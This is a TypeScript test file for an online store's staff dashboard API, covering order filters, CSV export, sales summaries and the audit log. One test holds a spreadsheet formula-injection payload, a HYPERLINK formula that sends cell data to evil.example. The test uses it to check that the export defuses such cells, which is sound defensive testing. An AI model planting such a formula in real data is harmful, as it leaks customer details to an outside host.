/**
 * The dashboard's server side (Today and Orders): order filters and the CSV export,
 * the Today summary, and the audit log of every staff change.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, ANSWER, calendarDate, HEADER_AUTHORIZATION } from '@so/contract';
import { STAFF_ORDERS_CSV_COLUMNS, SUMMARY_CHART_DAYS } from '@so/contract/staff';
import { createSession } from '../accounts/sessions.ts';
import { auditEntries, type AuditRow } from './audit.ts';
import { DEMO_SHOPPERS, seedDemoOrders } from '../seed/demo-orders.ts';
import { staffSummary } from './summary.ts';
import { createTestServer, type TestServer } from '../testing.ts';

let server: TestServer;
let staff: { id: number; token: string; email: string };
let customer: { id: number; token: string; email: string };

let userCount = 0;
async function newUser(
  flags: { is_staff?: boolean; first?: string; last?: string; mobile?: string | null } = {},
): Promise<{ id: number; token: string; email: string }> {
  userCount += 1;
  const email = `orders-test-${userCount}-${Date.now()}@example.test`;
  const { rows } = await server.db.query<{ id: number }>(
    `INSERT INTO users (email, first_name, last_name, mobile, password_hash, is_staff) VALUES ($1, $2, $3, $4, 'unused', $5) RETURNING id`,
    [email, flags.first ?? 'Test', flags.last ?? 'Person', flags.mobile ?? null, flags.is_staff ?? false],
  );
  return { id: rows[0].id, token: await createSession(server.db, rows[0].id), email };
}

beforeAll(async () => {
  server = await createTestServer();
  staff = await newUser({ is_staff: true });
  customer = await newUser();
});
afterAll(async () => {
  await server?.close();
});

const auth = (token: string) => ({ [HEADER_AUTHORIZATION]: `Token ${token}` });

interface OrderSpec {
  userId: number;
  status?: string;
  payType?: 'COD' | 'Online';
  paid?: boolean;
  totalPaise?: number;
  at?: string;
  partner?: string | null;
}

/** An order written straight into the tables (no lines: stock is not touched). */
async function insertOrder(db: TestServer['db'], spec: OrderSpec): Promise<{ id: number; order_id: string }> {
  const address = JSON.stringify({ id: 1, full_name: 'Ship To', mobile_no: '+919800000009', full_address: '1 Test Road', city_id: 117, city: 'Ahmedabad' });
  const total = spec.totalPaise ?? 100000;
  const { rows } = await db.query<{ id: number; order_id: string }>(
    `INSERT INTO orders (user_id, pay_type, is_paid, billing_address, shipping_address, product_total_paise, tax_paise, final_total_paise,
                         order_status, order_date, partner_code)
     VALUES ($1, $2, $3, $4::jsonb, $4::jsonb, $5, 0, $5, $6, COALESCE($7::timestamptz, now()), $8) RETURNING id, order_id`,
    [spec.userId, spec.payType ?? 'COD', spec.paid ?? false, address, total, spec.status ?? 'Pending', spec.at ?? null, spec.partner ?? null],
  );
  return rows[0];
}

/** A captured payment of `order` and a refund due of it. */
async function refundDue(db: TestServer['db'], order: { id: number }, userId: number, amountPaise: number): Promise<number> {
  const txnid = `T${order.id}X${Date.now()}`;
  await db.query("INSERT INTO payments (txnid, order_id, user_id, amount_paise, gateway, status, gateway_payment_id) VALUES ($1, $2, $3, $4, 'sandbox', 'refund', 'mih1')", [
    txnid,
    order.id,
    userId,
    amountPaise,
  ]);
  const { rows } = await db.query<{ id: number }>("INSERT INTO refunds (txnid, order_id, amount_paise, reason) VALUES ($1, $2, $3, 'duplicate') RETURNING id", [
    txnid,
    order.id,
    amountPaise,
  ]);
  return rows[0].id;
}

interface ListAnswer {
  count: number;
  data: { order_id: string; final_total: number; customer: { name: string; email: string } }[];
}

async function list(query: string, token = staff.token): Promise<ListAnswer> {
  const response = await server.call(`/api/staff/orders?page_size=100&${query}`, { headers: auth(token) });
  expect(response.status).toBe(200);
  return (await response.json()) as ListAnswer;
}

/** RFC 4180 rows of a CSV text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  return rows;
}

async function csv(query: string): Promise<{ response: Response; rows: string[][] }> {
  const response = await server.call(`/api/staff/orders.csv?${query}`, { headers: auth(staff.token) });
  return { response, rows: parseCsv(await response.clone().text()) };
}

describe('staff only', () => {
  it('refuses visitors (401) and customers (403) on the new endpoints', async () => {
    for (const path of ['/api/staff/orders.csv', '/api/staff/summary', '/api/staff/orders?payment=paid']) {
      expect((await server.call(path)).status, path).toBe(401);
      const refused = await server.call(path, { headers: auth(customer.token) });
      expect(refused.status, path).toBe(403);
      expect(((await refused.json()) as { message: string }).message).toBe(ANSWER.staffOnly);
    }
    expect((await server.call('/api/staff/refunds/1/send', { method: 'POST', headers: auth(customer.token) })).status).toBe(403);
  });
});

describe('GET /api/staff/orders filters and /orders.csv', () => {
  let shopper: { id: number; email: string };
  const made: Record<string, string> = {};

  beforeAll(async () => {
    shopper = await newUser({ first: 'Ravi, "Jr"', last: "O'Neil", mobile: '+919812345678' });
    await server.db.query("INSERT INTO partners (code, name) VALUES ('FILTERP', 'Filter Partner')");
    const db = server.db;
    made.cod = (await insertOrder(db, { userId: shopper.id, payType: 'COD', totalPaise: 123456, at: '2026-01-10T18:29:59Z' })).order_id;
    made.paid = (await insertOrder(db, { userId: shopper.id, payType: 'Online', paid: true, totalPaise: 50005, at: '2026-01-10T18:30:00Z', partner: 'FILTERP' })).order_id;
    made.unpaid = (await insertOrder(db, { userId: shopper.id, payType: 'Online', at: '2026-01-12T06:00:00Z' })).order_id;
    const refunded = await insertOrder(db, { userId: shopper.id, payType: 'Online', paid: true, status: 'Cancelled', at: '2026-01-13T06:00:00Z' });
    await refundDue(db, refunded, shopper.id, 100000);
    made.refund = refunded.order_id;
  });

  const ids = (answer: ListAnswer) => answer.data.map((row) => row.order_id);

  it('filters by payment, date (Asia/Kolkata days), partner and text', async () => {
    const q = `q=${encodeURIComponent(shopper.email)}`;
    expect(ids(await list(q))).toEqual([made.refund, made.unpaid, made.paid, made.cod]);
    expect(ids(await list(`${q}&payment=cod`))).toEqual([made.cod]);
    expect(ids(await list(`${q}&payment=PAID`))).toEqual([made.refund, made.paid]);
    expect(ids(await list(`${q}&payment=unpaid`))).toEqual([made.unpaid]);
    expect(ids(await list(`${q}&payment=online`))).toEqual([made.refund, made.unpaid, made.paid]);
    expect(ids(await list(`${q}&payment=refund_due`))).toEqual([made.refund]);
    // 18:29:59 UTC on the 10th is 23:59:59 in India; 18:30 is the 11th.
    expect(ids(await list(`${q}&to=2026-01-10`))).toEqual([made.cod]);
    expect(ids(await list(`${q}&from=2026-01-11&to=2026-01-12`))).toEqual([made.unpaid, made.paid]);
    expect(ids(await list(`partner=filterp`))).toEqual([made.paid]);
    expect(ids(await list(`q=${made.unpaid.toLowerCase()}`))).toEqual([made.unpaid]);
    expect(ids(await list(`q=${encodeURIComponent("o'neil")}&status=Cancelled`))).toEqual([made.refund]);
    expect(ids(await list('q=98123%2045678'))).toEqual([made.refund, made.unpaid, made.paid, made.cod]);
    expect((await list('q=%25%25%25')).count).toBe(0);
  });

  it('refuses a bad payment filter and a bad date', async () => {
    const bad = await server.call('/api/staff/orders?payment=gold', { headers: auth(staff.token) });
    expect(bad.status).toBe(400);
    const badDate = await server.call('/api/staff/orders.csv?from=2026-02-30', { headers: auth(staff.token) });
    expect(badDate.status).toBe(400);
    expect(((await badDate.json()) as { message: string }).message).toBe(ANSWER.mustBeDate('from'));
  });

  it('exports exactly the filtered list as CSV: header, rupees with 2 decimals, India times, escaped names', async () => {
    const query = `q=${encodeURIComponent(shopper.email)}&payment=online&page_size=1`;
    const shown = await list(query);
    const { response, rows } = await csv(query);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toMatch(/^text\/csv/);
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(rows[0]).toEqual([...STAFF_ORDERS_CSV_COLUMNS]);
    // Paging is ignored: every order of the filter, in the list's order.
    expect(rows.slice(1).map((row) => row[0])).toEqual(ids(shown));
    const paid = rows.find((row) => row[0] === made.paid);
    // The mobile number starts with '+', a formula start: it is written as text ('+91…), like any such cell.
    // Then the lines (none here), the shipping address, its PIN code (none in '1 Test Road'), the phone, courier and AWB (not shipped).
    expect(paid).toEqual([made.paid, '2026-01-11 00:00', 'Pending', 'Online', 'yes', 'no', '500.05', '', `Ravi, "Jr" O'Neil`, shopper.email, "'+919812345678", 'FILTERP', '', '1 Test Road', '', "'+919800000009", '', '']);
    const text = await response.text();
    expect(text).toContain(`"Ravi, ""Jr"" O'Neil"`);
    const cod = (await csv(`q=${encodeURIComponent(shopper.email)}&payment=cod`)).rows;
    expect(cod.slice(1)).toEqual([[made.cod, '2026-01-10 23:59', 'Pending', 'COD', 'no', 'no', '1234.56', '', `Ravi, "Jr" O'Neil`, shopper.email, "'+919812345678", '', '', '1 Test Road', '', "'+919800000009", '', '']]);
    // Nothing matches: the header alone.
    expect((await csv('q=nobody-matches-this')).rows).toEqual([[...STAFF_ORDERS_CSV_COLUMNS]]);
  });

  it('writes a name typed as a spreadsheet formula as text: a leading quote on every cell starting =, +, -, @, tab or CR', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Refund")';
    const evil = await newUser({ first: formula, last: '', mobile: '+919811122233' });
    const plus = await newUser({ first: '+1+1', last: 'Shah' });
    const minus = await newUser({ first: '-2+3', last: '' });
    const at = await newUser({ first: '@SUM(A1:A9)', last: '' });
    const tab = await newUser({ first: '\t=1+1', last: '' });
    const free = await insertOrder(server.db, { userId: evil.id, totalPaise: 0 });
    for (const user of [plus, minus, at, tab]) await insertOrder(server.db, { userId: user.id });
    const { response, rows } = await csv(`q=${encodeURIComponent(evil.email)}`);
    const text = await response.text();
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // The total the store computes is never below zero: a free order's 0.00 goes out as it is.
    expect(rows[1]).toEqual([free.order_id, rows[1][1], 'Pending', 'COD', 'no', 'no', '0.00', '', `'${formula}`, evil.email, "'+919811122233", '', '', '1 Test Road', '', "'+919800000009", '', '']);
    const names = async (user: { email: string }) => (await csv(`q=${encodeURIComponent(user.email)}`)).rows.slice(1).map((row) => row[8]);
    expect(await names(plus)).toEqual(["'+1+1 Shah"]);
    expect(await names(minus)).toEqual(["'-2+3"]);
    expect(await names(at)).toEqual(["'@SUM(A1:A9)"]);
    // A name starting with a tab: trimmed for the column, then its '=' defused like the others.
    expect(await names(tab)).toEqual(["'=1+1"]);
  });
});

describe('GET /api/staff/summary', () => {
  let fresh: TestServer;
  let token: string;
  beforeAll(async () => {
    fresh = await createTestServer();
    const { rows } = await fresh.db.query<{ id: number }>(
      "INSERT INTO users (email, first_name, last_name, password_hash, is_staff) VALUES ('summary-staff@example.test', 'S', 'S', 'unused', true) RETURNING id",
    );
    token = await createSession(fresh.db, rows[0].id);
  });
  afterAll(async () => {
    await fresh?.close();
  });

  interface Period {
    from: string;
    orders: number;
    revenue: number;
    average_order_value: number;
  }
  interface Action {
    count: number;
    items: { ref: string; label: string; amount: number | null }[];
  }
  interface SummaryAnswer {
    status: boolean;
    data: {
      today: string;
      periods: { today: Period; last_7_days: Period; last_30_days: Period };
      revenue_by_day: { date: string; orders: number; revenue: number }[];
      needs_action: Record<string, Action>;
    };
  }
  async function summary(): Promise<SummaryAnswer['data']> {
    const response = await fresh.call('/api/staff/summary', { headers: auth(token) });
    expect(response.status).toBe(200);
    return ((await response.json()) as SummaryAnswer).data;
  }
  /** Noon in India `days` days ago. */
  const daysAgo = (days: number) => `${addDays(calendarDate(), -days)}T12:00:00+05:30`;

  it('counts orders, revenue and average of today, 7 and 30 days, and every day of the chart', async () => {
    const before = await summary();
    expect(before.today).toBe(calendarDate());
    expect(before.revenue_by_day).toHaveLength(SUMMARY_CHART_DAYS);
    expect(before.revenue_by_day.every((day) => day.orders === 0 && day.revenue === 0)).toBe(true);
    expect(before.periods.today).toEqual({ from: calendarDate(), orders: 0, revenue: 0, average_order_value: 0 });

    const { rows } = await fresh.db.query<{ id: number }>("INSERT INTO users (email, first_name, last_name, password_hash) VALUES ('sum-shopper@example.test', 'Meera', 'Shah', 'x') RETURNING id");
    const user = rows[0].id;
    const db = fresh.db;
    const today = new Date().toISOString();
    await insertOrder(db, { userId: user, payType: 'COD', totalPaise: 100000, at: today });
    await insertOrder(db, { userId: user, payType: 'Online', paid: true, totalPaise: 50001, at: today, status: 'Delivered' });
    await insertOrder(db, { userId: user, payType: 'Online', paid: false, totalPaise: 70000, at: today }); // not paid: no revenue
    await insertOrder(db, { userId: user, payType: 'COD', totalPaise: 90000, at: today, status: 'Cancelled' }); // cancelled
    await insertOrder(db, { userId: user, payType: 'COD', totalPaise: 20000, at: daysAgo(6), status: 'Confirmed' });
    await insertOrder(db, { userId: user, payType: 'COD', totalPaise: 30000, at: daysAgo(7) });
    await insertOrder(db, { userId: user, payType: 'COD', totalPaise: 40000, at: daysAgo(29) });
    await insertOrder(db, { userId: user, payType: 'COD', totalPaise: 99999, at: daysAgo(30) }); // outside 30 days

    const after = await summary();
    expect(after.periods.today).toEqual({ from: calendarDate(), orders: 2, revenue: 1500.01, average_order_value: 750.01 });
    expect(after.periods.last_7_days).toEqual({ from: addDays(calendarDate(), -6), orders: 3, revenue: 1700.01, average_order_value: 566.67 });
    expect(after.periods.last_30_days).toEqual({ from: addDays(calendarDate(), -29), orders: 5, revenue: 2400.01, average_order_value: 480 });
    const byDay = Object.fromEntries(after.revenue_by_day.map((day) => [day.date, day]));
    expect(after.revenue_by_day[0].date).toBe(addDays(calendarDate(), -29));
    expect(byDay[addDays(calendarDate(), -29)]).toEqual({ date: addDays(calendarDate(), -29), orders: 1, revenue: 400 });
    expect(byDay[addDays(calendarDate(), -7)]).toEqual({ date: addDays(calendarDate(), -7), orders: 1, revenue: 300 });
    expect(byDay[addDays(calendarDate(), -1)]).toEqual({ date: addDays(calendarDate(), -1), orders: 0, revenue: 0 });
    expect(after.revenue_by_day.reduce((sum, day) => sum + day.orders, 0)).toBe(5);
  });

  it('lists what needs action: orders to confirm, refunds due, out of stock, leads, appointments, deliveries of tomorrow', async () => {
    const before = (await summary()).needs_action;
    const { rows } = await fresh.db.query<{ id: number }>("INSERT INTO users (email, first_name, last_name, password_hash) VALUES ('act-shopper@example.test', 'Kiran', 'Rao', 'x') RETURNING id");
    const user = rows[0].id;
    const pending = await insertOrder(fresh.db, { userId: user, totalPaise: 12345, at: '2020-01-01T00:00:00Z' });
    const cancelled = await insertOrder(fresh.db, { userId: user, payType: 'Online', paid: true, status: 'Cancelled' });
    const refund = await refundDue(fresh.db, cancelled, user, 4321);
    await fresh.db.query('UPDATE products SET stock = 0 WHERE id = 1001');
    await fresh.db.query(
      "INSERT INTO inquiries (company, name, country_id, phone, email, subject, inquiry_description) VALUES ('Co', 'Nina', 104, '+919800000000', 'n@example.test', 'Bulk', 'Hello')",
    );
    const after = (await summary()).needs_action;
    expect(after.orders_to_confirm.count).toBe(before.orders_to_confirm.count + 1);
    // Oldest first: the one waiting longest.
    expect(after.orders_to_confirm.items[0]).toMatchObject({ ref: pending.order_id, label: 'Kiran Rao', amount: 123.45 });
    expect(after.refunds_due.count).toBe(before.refunds_due.count + 1);
    expect(after.refunds_due.items.find((item) => item.ref === String(refund))).toMatchObject({ label: cancelled.order_id, amount: 43.21 });
    expect(after.out_of_stock.count).toBe(before.out_of_stock.count + 1);
    expect(after.inquiries.count).toBe(before.inquiries.count + 1);
    expect(after.inquiries.items.at(-1)?.label).toContain('Nina');
    for (const kind of ['b2b_leads', 'export_leads', 'appointments', 'deliveries_tomorrow']) expect(after[kind].count, kind).toBe(before[kind].count);
    // A subscription delivering tomorrow (shifted there) is listed; one delivering the day after is not.
    const tomorrow = addDays(calendarDate(), 1);
    const subscribe = (next: string, shifted: string | null) =>
      fresh.db.query<{ id: number }>(
        `INSERT INTO subscriptions (user_id, product_id, quantity, delivery_option_id, discount_percent, start_date, next_delivery_date, shifted_delivery_date)
         VALUES ($1, 1002, 2, (SELECT min(id) FROM delivery_options), 5, $2::date, $2::date, $3::date) RETURNING id`,
        [user, next, shifted],
      );
    const due = (await subscribe(calendarDate(), tomorrow)).rows[0].id;
    await subscribe(addDays(calendarDate(), 2), null);
    const deliveries = (await summary()).needs_action.deliveries_tomorrow;
    expect(deliveries.count).toBe(before.deliveries_tomorrow.count + 1);
    expect(deliveries.items.map((item) => item.ref)).toContain(String(due));
    expect(deliveries.items.find((item) => item.ref === String(due))?.label).toMatch(/ × 2 for Kiran Rao$/);
    // Sending the refund takes it off the list.
    expect((await fresh.call(`/api/staff/refunds/${refund}/send`, { method: 'POST', headers: auth(token) })).status).toBe(200);
    expect((await summary()).needs_action.refunds_due.count).toBe(before.refunds_due.count);
  });
});

describe('the audit log', () => {
  async function entries(entity: string, entityId: string | number): Promise<AuditRow[]> {
    return (await auditEntries(server.db, { entity, entityId: String(entityId), page: 1, pageSize: 50 })).entries;
  }
  const post = (path: string, body: unknown, token = staff.token) => server.call(path, { method: 'POST', body, headers: auth(token) });

  it('writes a stock change once, with before, after and who; an unchanged stock writes nothing', async () => {
    const { rows } = await server.db.query<{ id: number }>(
      `INSERT INTO products (id, name, category_id, base_price_paise, gst_paise, gst_rate, stock)
       SELECT 950001, name || ' audit copy', category_id, base_price_paise, gst_paise, gst_rate, 5 FROM products WHERE id = 1001 RETURNING id`,
    );
    const product = rows[0].id;
    expect((await post(`/api/staff/products/${product}/stock`, { stock: 9 })).status).toBe(200);
    expect(await entries('product', product)).toMatchObject([{ action: 'product.stock', actor_id: staff.id, actor_email: staff.email, before: { stock: 5 }, after: { stock: 9 } }]);
    expect((await post(`/api/staff/products/${product}/stock`, { stock: 9 })).status).toBe(200);
    expect((await post(`/api/staff/products/${product}/stock`, { stock: null })).status).toBe(200);
    const log = await entries('product', product);
    expect(log).toHaveLength(2);
    expect(log[0]).toMatchObject({ before: { stock: 9 }, after: { stock: null } });
    // A refused change (a customer) writes nothing.
    expect((await post(`/api/staff/products/${product}/stock`, { stock: 1 }, customer.token)).status).toBe(403);
    expect(await entries('product', product)).toHaveLength(2);
  });

  it('writes each order move and invoicing once; an illegal move writes nothing', async () => {
    const order = await insertOrder(server.db, { userId: customer.id });
    expect((await post(`/api/staff/orders/${order.order_id}/status`, { order_status: 'Confirmed', is_invoiced: true })).status).toBe(200);
    expect(await entries('order', order.order_id)).toMatchObject([
      {
        action: 'order.status',
        actor_id: staff.id,
        before: { order_status: 'Pending', is_invoiced: false, delivery_date: null },
        after: { order_status: 'Confirmed', is_invoiced: true, delivery_date: null },
      },
    ]);
    expect((await post(`/api/staff/orders/${order.order_id}/status`, { order_status: 'Delivered' })).status).toBe(409);
    expect((await post(`/api/staff/orders/${order.order_id}/status`, { order_status: 'Confirmed' })).status).toBe(200);
    expect(await entries('order', order.order_id)).toHaveLength(1);
    expect((await post(`/api/staff/orders/${order.order_id}/status`, { order_status: 'Dispatched' })).status).toBe(409);
    expect(await entries('order', order.order_id)).toHaveLength(1);
    const shipped = await server.call(`/api/staff/orders/${order.order_id}/shipment`, { method: 'PUT', body: { courier: 'Delhivery', awb: 'DL100300', weight_grams: 400 }, headers: auth(staff.token) });
    expect(shipped.status).toBe(200);
    expect((await post(`/api/staff/orders/${order.order_id}/status`, { order_status: 'Delivered' })).status).toBe(200);
    const log = await entries('order', order.order_id);
    expect(log).toHaveLength(3);
    expect(log[1]).toMatchObject({ action: 'order.shipment', before: { order_status: 'Confirmed' }, after: { order_status: 'Dispatched', courier: 'Delhivery', awb: 'DL100300' } });
    expect(log[0]).toMatchObject({ action: 'order.status', before: { order_status: 'Dispatched' }, after: { order_status: 'Delivered', is_invoiced: true } });
  });

  it('writes a cancellation of a paid order and the send of its refund', async () => {
    const order = await insertOrder(server.db, { userId: customer.id, payType: 'Online', paid: true, status: 'Confirmed' });
    await server.db.query("INSERT INTO payments (txnid, order_id, user_id, amount_paise, gateway, status, gateway_payment_id) VALUES ($1, $2, $3, 100000, 'sandbox', 'success', 'mih2')", [
      `PAY${order.id}`,
      order.id,
      customer.id,
    ]);
    expect((await post(`/api/staff/orders/${order.order_id}/status`, { order_status: 'Cancelled' })).status).toBe(200);
    const [cancel] = await entries('order', order.order_id);
    expect(cancel).toMatchObject({ before: { order_status: 'Confirmed' }, after: { order_status: 'Cancelled' } });
    const refundId = (cancel.after as { refund_id: number }).refund_id;
    expect(await entries('refund', refundId)).toMatchObject([
      { action: 'refund.send', actor_id: staff.id, before: { status: 'due', order_id: order.order_id, amount: 1000 }, after: { status: 'refunded' } },
    ]);
    // Sending it again changes nothing and writes nothing.
    expect((await post(`/api/staff/refunds/${refundId}/send`, {})).status).toBe(200);
    expect(await entries('refund', refundId)).toHaveLength(1);
  });
});

describe('demo orders (seedDemoOrders)', () => {
  let demo: TestServer;
  beforeAll(async () => {
    demo = await createTestServer();
  });
  afterAll(async () => {
    await demo?.close();
  });

  it('seeds 60 days of orders once, for the demo shoppers, without touching stock or coins', async () => {
    const stock = async () => (await demo.db.query<{ id: number; stock: number | null }>('SELECT id, stock FROM products ORDER BY id')).rows;
    const stockBefore = await stock();
    const now = new Date();
    const written = await seedDemoOrders(demo.db, now);
    expect(written).toBeGreaterThan(60);
    expect(await seedDemoOrders(demo.db, now)).toBe(0);
    expect(await stock()).toEqual(stockBefore);
    const coins = await demo.db.query<{ n: number }>('SELECT count(*)::int AS n FROM coin_ledger');
    expect(coins.rows[0].n).toBe(0);
    const orders = await demo.db.query<{ n: number; statuses: number; oldest: string; shoppers: number }>(
      `SELECT count(*)::int AS n, count(DISTINCT order_status)::int AS statuses, count(DISTINCT user_id)::int AS shoppers,
              to_char(min(order_date) AT TIME ZONE 'Asia/Kolkata', 'YYYY-MM-DD') AS oldest FROM orders`,
    );
    expect(orders.rows[0]).toMatchObject({ n: written, statuses: 5, shoppers: DEMO_SHOPPERS.length });
    expect(orders.rows[0].oldest >= addDays(calendarDate(now), -59)).toBe(true);
    // Every order's total is its lines plus shipping, and every paid order has its captured payment.
    const mismatched = await demo.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM orders o
        WHERE o.final_total_paise <> (SELECT sum(line_total_paise) FROM order_lines l WHERE l.order_id = o.id) + o.shipping_paise
           OR (o.is_paid AND NOT EXISTS (SELECT 1 FROM payments p WHERE p.order_id = o.id AND p.status = 'success'))`,
    );
    expect(mismatched.rows[0].n).toBe(0);
    const summary = await staffSummary(demo.db, now);
    expect(summary.periods.last_30_days.orders).toBeGreaterThan(20);
    expect(summary.revenue_by_day.filter((day) => day.revenue > 0).length).toBeGreaterThan(15);
  });
});
